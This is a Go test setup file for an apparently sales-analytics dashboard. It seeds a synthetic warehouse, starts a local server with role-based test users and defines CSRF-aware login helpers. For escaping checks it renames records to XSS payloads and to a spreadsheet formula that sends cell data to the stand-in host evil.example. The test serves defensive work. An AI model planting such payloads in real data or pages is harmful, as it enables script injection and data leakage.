package dashboards_test

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/triscope/triscope/access"
	"github.com/triscope/triscope/app"
	"github.com/triscope/triscope/dashboards"
	"github.com/triscope/triscope/etl"
	"github.com/triscope/triscope/etl/synth"
	"github.com/triscope/triscope/models"
	"github.com/triscope/triscope/warehouse"
)

// The small demo company, loaded and computed once for every test of the
// package, served on 127.0.0.1:0.
var env struct {
	base     string
	rt       *app.Runtime
	w        *warehouse.Warehouse
	auth     *access.Store
	srv      *dashboards.Server
	password string
	region   string // East China
	branch   string // a branch of it
	rep      string // a rep with deals
	repName  string
	xssCust  string // customer renamed to a script payload
	xssRep   string // rep renamed to a script payload
	xssDept  string // that rep's org unit
	formula  string // customer renamed to a spreadsheet formula
	mixed    string // a customer of the rep with a contract and payment of another rep
	// Customers renamed in Chinese (the pinyin search): the rep's own and
	// one of another region, with the same initials.
	pinyinOwn, pinyinOther string
}

const (
	xssCustomer = `</script><script>alert(1)</script>`
	xssRepName  = `<img src=x onerror=alert(2)>`
	// A spreadsheet formula (OWASP CSV injection): exports must defuse it.
	formulaCustomer = `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
)

func TestMain(m *testing.M) {
	code, err := setup()
	if err != nil {
		fmt.Fprintln(os.Stderr, "setup:", err)
		os.Exit(1)
	}
	os.Exit(code(m))
}

func setup() (func(*testing.M) int, error) {
	ctx := context.Background()
	dir, err := os.MkdirTemp("", "triscope-dash-test-")
	if err != nil {
		return nil, err
	}
	quiet := slog.New(slog.NewTextHandler(io.Discard, nil))
	if os.Getenv("TRISCOPE_TEST_LOG") != "" {
		quiet = slog.New(slog.NewTextHandler(os.Stderr, nil))
	}
	data := filepath.Join(dir, "data")
	if _, err := synth.Generate(ctx, synth.Config{Size: "small", Seed: 1, Locale: "en", Format: "csv"}, data, nil); err != nil {
		return nil, fmt.Errorf("generate: %w", err)
	}
	w, err := warehouse.Open(ctx, warehouse.Options{Path: filepath.Join(dir, "wh.duckdb"), Logger: quiet})
	if err != nil {
		return nil, err
	}
	if _, err := etl.Load(ctx, w, []string{data}, etl.Options{Logger: quiet}); err != nil {
		return nil, fmt.Errorf("load: %w", err)
	}
	// Models are computed one by one so that a model still under construction
	// elsewhere cannot take the others down with it.
	for _, name := range models.Names() {
		if _, _, err := models.Refresh(ctx, w, models.RefreshOptions{Models: []string{name}, Logger: quiet}); err != nil {
			fmt.Fprintf(os.Stderr, "note: model %s not computed: %v\n", name, firstLine(err))
		}
	}
	env.w = w
	db := w.DB()
	if err := db.QueryRowContext(ctx, `SELECT org_unit_id FROM org_units WHERE level = 'region' AND name = 'East China'`).Scan(&env.region); err != nil {
		return nil, fmt.Errorf("East China: %w", err)
	}
	if err := db.QueryRowContext(ctx, `SELECT org_unit_id FROM org_units WHERE parent_id = $1 ORDER BY org_unit_id LIMIT 1`, env.region).Scan(&env.branch); err != nil {
		return nil, err
	}
	if err := db.QueryRowContext(ctx, `SELECT c.owner_rep_id, r.name FROM contracts c JOIN reps r ON r.rep_id = c.owner_rep_id
		WHERE c.signed_on >= DATE '2026-01-01' GROUP BY ALL ORDER BY count(*) DESC, 1 LIMIT 1`).Scan(&env.rep, &env.repName); err != nil {
		return nil, err
	}
	// Script payloads in the data: the customer of the latest contract, and a
	// rep (not the test rep) with bookings this year in a department.
	err = w.WriteTx(ctx, func(ctx context.Context, conn *sql.Conn) error {
		if err := conn.QueryRowContext(ctx, `SELECT customer_id FROM contracts ORDER BY signed_on DESC, contract_id LIMIT 1`).Scan(&env.xssCust); err != nil {
			return err
		}
		if err := conn.QueryRowContext(ctx, `SELECT c.owner_rep_id, r.org_unit_id FROM contracts c JOIN reps r ON r.rep_id = c.owner_rep_id
			JOIN org_units u ON u.org_unit_id = r.org_unit_id
			WHERE u.level = 'department' AND c.signed_on >= DATE '2026-01-01' AND c.owner_rep_id <> $1
			GROUP BY ALL ORDER BY count(*) DESC, 1 LIMIT 1`, env.rep).Scan(&env.xssRep, &env.xssDept); err != nil {
			return err
		}
		if _, err := conn.ExecContext(ctx, `UPDATE customers SET name = $1 WHERE customer_id = $2`, xssCustomer, env.xssCust); err != nil {
			return err
		}
		if err := conn.QueryRowContext(ctx, `SELECT customer_id FROM payments WHERE customer_id <> $1 ORDER BY paid_on DESC, payment_id LIMIT 1`, env.xssCust).Scan(&env.formula); err != nil {
			return err
		}
		if _, err := conn.ExecContext(ctx, `UPDATE customers SET name = $1 WHERE customer_id = $2`, formulaCustomer, env.formula); err != nil {
			return err
		}
		// A customer of the test rep that another rep also sold to: its
		// figures from the models must not be shown to the rep (the scope rule).
		if err := conn.QueryRowContext(ctx, `SELECT p.customer_id FROM payments p JOIN customers c USING (customer_id)
			WHERE c.owner_rep_id = $1 GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1`, env.rep).Scan(&env.mixed); err != nil {
			return err
		}
		if _, err := conn.ExecContext(ctx, `INSERT INTO contracts (contract_id, customer_id, owner_rep_id, signed_on, amount, currency, status)
			SELECT 'FIX-MIXED-1', $1, rep_id, DATE '2026-03-02', 50000, 'CNY', 'active' FROM reps WHERE rep_id <> $2 ORDER BY rep_id LIMIT 1`, env.mixed, env.rep); err != nil {
			return err
		}
		if _, err := conn.ExecContext(ctx, `INSERT INTO payments (payment_id, contract_id, customer_id, paid_on, amount, currency, method)
			VALUES ('FIX-MIXED-P1', 'FIX-MIXED-1', $1, DATE '2026-04-01', 20000, 'CNY', 'transfer')`, env.mixed); err != nil {
			return err
		}
		if err := conn.QueryRowContext(ctx, `SELECT max(customer_id) FROM customers WHERE owner_rep_id = $1 AND customer_id NOT IN ($2, $3, $4)`,
			env.rep, env.xssCust, env.formula, env.mixed).Scan(&env.pinyinOwn); err != nil {
			return err
		}
		if err := conn.QueryRowContext(ctx, `SELECT max(c.customer_id) FROM customers c JOIN reps r ON r.rep_id = c.owner_rep_id
			WHERE r.org_unit_id NOT IN (SELECT org_unit_id FROM org_units WHERE org_unit_id = $1 OR parent_id = $1)
			  AND c.customer_id NOT IN ($2, $3)`, env.region, env.xssCust, env.formula).Scan(&env.pinyinOther); err != nil {
			return err
		}
		for id, name := range map[string]string{env.pinyinOwn: "张飞奇科技有限公司", env.pinyinOther: "张飞奇贸易有限公司"} {
			if _, err := conn.ExecContext(ctx, `UPDATE customers SET name = $1 WHERE customer_id = $2`, name, id); err != nil {
				return err
			}
		}
		if _, err := conn.ExecContext(ctx, `UPDATE reps SET name = $1 WHERE rep_id = $2`, xssRepName, env.xssRep); err != nil {
			return err
		}
		// The fixtures are a load of their own: the facts the models' refresh
		// built above must include them (a load rebuilds them before it
		// commits), or the pages would read the names and rows from before.
		var loadID int64
		if err := conn.QueryRowContext(ctx, `INSERT INTO load_runs (load_id, started_at, finished_at, status, message)
			SELECT nextval('load_id_seq'), now(), now(), 'committed', 'test fixtures' RETURNING load_id`).Scan(&loadID); err != nil {
			return err
		}
		return rebuildFacts(ctx, conn, loadID)
	})
	if err != nil {
		return nil, fmt.Errorf("xss fixtures: %w", err)
	}

	// The runtime takes the file over, as `triscope serve` does.
	w.Close()
	cfg := &app.Config{DB: filepath.Join(dir, "wh.duckdb"), BaseCurrency: "CNY", TimeZone: warehouse.DefaultTimeZone,
		MaxReject: 0.05, RefreshAfterLoad: "affected", Benchmarks: access.DefaultBenchmarks}
	env.rt, err = app.Open(ctx, cfg, quiet)
	if err != nil {
		return nil, err
	}
	env.w, env.auth = env.rt.Warehouse(), env.rt.Access()
	env.password = "test-password-1"
	for _, u := range []access.User{
		{Username: "ceo", Role: access.RoleExecutive},
		{Username: "admin", Role: access.RoleAdmin},
		{Username: "east", Role: access.RoleManager, OrgUnit: env.region},
		{Username: "rep", Role: access.RoleRep, RepID: env.rep},
		{Username: "analyst", Role: access.RoleAnalyst, OrgUnit: env.branch},
		{Username: "nobody", Role: access.RoleManager, OrgUnit: "ORG-DOES-NOT-EXIST"},
		{Username: "ghost", Role: access.RoleRep, RepID: "REP-DOES-NOT-EXIST"},
		{Username: "throttled", Role: access.RoleExecutive},
	} {
		if err := env.auth.PutUser(ctx, u, env.password); err != nil {
			return nil, err
		}
	}
	env.srv, err = env.rt.Dashboards(ctx, "", false)
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	env.base = "http://" + ln.Addr().String()
	sctx, stop := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- env.srv.Serve(sctx, ln) }()
	return func(m *testing.M) int {
		code := m.Run()
		stop()
		<-done
		env.rt.Close()
		os.RemoveAll(dir)
		return code
	}, nil
}

// rebuildFacts does on conn what a load does before it commits: the facts
// and the scoped relations over them.
func rebuildFacts(ctx context.Context, conn *sql.Conn, loadID int64) error {
	if err := models.BuildFacts(ctx, conn, "CNY", loadID); err != nil {
		return err
	}
	_, err := access.Install(ctx, conn, access.InstallOptions{})
	return err
}

func firstLine(err error) string {
	s := err.Error()
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}

// client is a cookie-keeping HTTP client that does not follow redirects.
type client struct {
	*http.Client
	t    *testing.T
	csrf string
}

func newClient(t *testing.T) *client {
	jar, _ := cookiejar.New(nil)
	return &client{t: t, Client: &http.Client{Jar: jar, Timeout: 60 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// loginForm fetches the login page and returns its CSRF token.
func (c *client) loginForm() string {
	c.t.Helper()
	resp, body := c.get("/login")
	if resp.StatusCode != 200 {
		c.t.Fatalf("GET /login: %d", resp.StatusCode)
	}
	m := csrfRE.FindStringSubmatch(body)
	if m == nil {
		c.t.Fatal("no CSRF token in the login form")
	}
	return m[1]
}

func (c *client) postForm(path string, form url.Values, headers ...string) (*http.Response, string) {
	c.t.Helper()
	req, _ := http.NewRequest("POST", env.base+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

func (c *client) get(path string) (*http.Response, string) {
	c.t.Helper()
	resp, err := c.Get(env.base + path)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

func (c *client) getJSON(path string, v any) int {
	c.t.Helper()
	resp, body := c.get(path)
	if resp.StatusCode == 200 && v != nil {
		if err := json.Unmarshal([]byte(body), v); err != nil {
			c.t.Fatalf("%s: %v\n%s", path, err, body)
		}
	}
	return resp.StatusCode
}

// login signs in as user and returns the logged-in client.
func login(t *testing.T, user string) *client {
	t.Helper()
	c := newClient(t)
	tok := c.loginForm()
	resp, body := c.postForm("/login", url.Values{"csrf": {tok}, "username": {user}, "password": {env.password}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("login %s: %d\n%s", user, resp.StatusCode, body)
	}
	var me struct {
		CSRF string `json:"csrf"`
	}
	if code := c.getJSON("/api/me", &me); code != 200 {
		t.Fatalf("/api/me after login: %d", code)
	}
	c.csrf = me.CSRF
	return c
}
